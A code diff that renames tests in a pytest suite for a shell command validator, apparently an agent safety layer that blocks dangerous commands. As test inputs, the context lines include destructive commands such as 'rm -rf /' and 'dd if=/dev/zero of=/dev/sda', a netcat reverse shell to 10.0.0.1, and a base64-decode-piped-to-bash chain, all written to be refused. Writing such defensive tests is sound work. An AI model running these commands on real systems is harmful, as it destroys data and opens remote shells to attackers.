@@ -43,7 +43,7 @@ def test_an_empty_command_is_refused(command: str, validator: CommandValidator) 
 
 
 @pytest.mark.req("K-04")
-def test_a_pattern_of_the_caller_s_is_refused() -> None:
+def test_command_with_a_pattern_of_the_caller_is_refused() -> None:
     assert refusal_of(CommandValidator(["rm -rf /"]), "rm -rf /") == blocked_message("rm -rf /")
     assert refusal_of(CommandValidator(["Git Push"]), "cd x && GIT push -u") == blocked_message("Git Push")
     assert refusal_of(CommandValidator(["a\nb"]), "echo a\nb") == blocked_message("a\nb")
@@ -51,14 +51,14 @@ def test_a_pattern_of_the_caller_s_is_refused() -> None:
 
 
 @pytest.mark.req("K-04")
-def test_a_pattern_of_the_caller_s_is_a_text_wherever_it_stands() -> None:
+def test_pattern_of_the_caller_matches_text_anywhere() -> None:
     for command in ('echo "rm -rf /"', "rm -rf /tmp/x", "true # rm -rf /"):
         assert refusal_of(CommandValidator(["rm -rf /"]), command) == blocked_message("rm -rf /")
     assert refusal_of(CommandValidator(["mkfs"]), "man mkfs") == blocked_message("mkfs")
 
 
 @pytest.mark.req("K-04")
-def test_the_dangerous_is_refused_without_any_pattern() -> None:
+def test_dangerous_command_is_refused_without_any_pattern() -> None:
     assert refusal_of(BARE, "rm -rf /") == DANGEROUS
     assert refusal_of(BARE, "dd if=/dev/zero of=/dev/sda") == DANGEROUS
     assert refusal_of(BARE, "nc -e /bin/sh 10.0.0.1 4444") == DANGEROUS
@@ -85,7 +85,7 @@ PATTERNS = {
 @pytest.mark.parametrize(
     ("command", "pattern"), [(command, pattern) for pattern, found in PATTERNS.items() for command in found]
 )
-def test_a_pattern_of_the_list_is_found_by_what_it_names(command: str, pattern: str) -> None:
+def test_default_pattern_matches_equivalent_commands(command: str, pattern: str) -> None:
     assert refusal_of(DEFAULT, command) == blocked_message(pattern)
 
 
@@ -121,7 +121,7 @@ def test_a_pattern_of_the_list_is_found_by_what_it_names(command: str, pattern: 
         "X=$(BASE64 -d x); echo $X | BASH",
     ],
 )
-def test_the_dangerous_is_found_by_what_it_does(command: str) -> None:
+def test_dangerous_command_is_found_by_its_effect(command: str) -> None:
     assert refusal_of(BARE, command) == DANGEROUS
 
 
@@ -159,7 +159,7 @@ def test_the_dangerous_is_found_by_what_it_does(command: str) -> None:
         "# rm -rf /\ntrue",
     ],
 )
-def test_a_text_that_does_no_such_thing_passes(command: str) -> None:
+def test_harmless_command_that_looks_dangerous_passes(command: str) -> None:
     assert refusal_of(DEFAULT, command) == ""
 
 
@@ -191,7 +191,7 @@ def test_a_text_that_does_no_such_thing_passes(command: str) -> None:
         ("cat x>/dev/sda", ""),
     ],
 )
-def test_literally_they_are_texts_as_the_document_has_them(command: str, message: str) -> None:
+def test_literal_validator_matches_text_as_in_the_document(command: str, message: str) -> None:
     assert refusal_of(LITERAL, command) == message
 
 
@@ -206,18 +206,18 @@ def test_literally_they_are_texts_as_the_document_has_them(command: str, message
     ],
 )
 @pytest.mark.parametrize("validator", [DEFAULT, LITERAL], ids=["default", "literal"])
-def test_the_first_pattern_of_the_list_is_named_before_any_danger(
+def test_first_matching_pattern_is_named_before_any_danger(
     command: str, pattern: str, validator: CommandValidator
 ) -> None:
     assert refusal_of(validator, command) == blocked_message(pattern)
 
 
-def test_a_home_is_refused_as_well_in_words_of_our_own() -> None:
+def test_removing_the_home_directory_is_refused_with_our_message() -> None:
     for validator in (BARE, DEFAULT, LITERAL):
         assert "would delete the home director" in refusal_of(validator, "rm -rf ~")
 
 
-def test_what_the_command_would_be_given_counts() -> None:
+def test_validator_uses_env_and_working_directory() -> None:
     with pytest.raises(Validation):
         DEFAULT.validate("rm -rf $X", env={"X": "/"})
     with pytest.raises(Validation):
@@ -226,19 +226,19 @@ def test_what_the_command_would_be_given_counts() -> None:
     DEFAULT.validate("rm -rf ./x", cwd="/tmp")
 
 
-def test_what_no_shell_could_take_is_refused() -> None:
+def test_command_with_a_nul_byte_is_refused() -> None:
     assert "NUL" in refusal_of(DEFAULT, "a\0b")
 
 
 @pytest.mark.parametrize("given", ["rm", [b"rm"], [None]], ids=repr)
-def test_one_text_is_no_list(given: list[str]) -> None:
+def test_patterns_must_be_a_list_of_strings(given: list[str]) -> None:
     with pytest.raises(InvalidPolicy, match="no list of texts"):
         CommandValidator(given)
     with pytest.raises(InvalidPolicy, match="no list of texts"):
         tachikoma(block=given)
 
 
-def test_it_tells_its_patterns() -> None:
+def test_validator_exposes_its_patterns() -> None:
     assert CommandValidator(["a", "b"]).blocked_patterns == ("a", "b")
 
 
@@ -246,13 +246,13 @@ def test_it_tells_its_patterns() -> None:
 @pytest.mark.parametrize(
     ("command", "pattern"), [(command, pattern) for pattern, found in PATTERNS.items() for command in found[:2]]
 )
-def test_the_profile_s_policy_says_the_same(command: str, pattern: str) -> None:
+def test_profile_policy_refuses_with_the_same_message(command: str, pattern: str) -> None:
     verdict = check(command, policy=TACHIKOMA.policy)
     assert (verdict.decision, verdict.what, verdict.instead) == (Decision.REFUSE, blocked_message(pattern), "")
 
 
 @pytest.mark.slow
-def test_a_long_text_takes_no_long_time() -> None:
+def test_validating_a_long_text_finishes() -> None:
     """Anything quadratic in the length would take hours."""
     for command in ("rm " * 50_000, "base64 |" * 2000 + "bash", "nc -e " * 50_000, "-rf / " * 50_000):
         for validator in (DEFAULT, LITERAL, CommandValidator(["a" * 1000])):
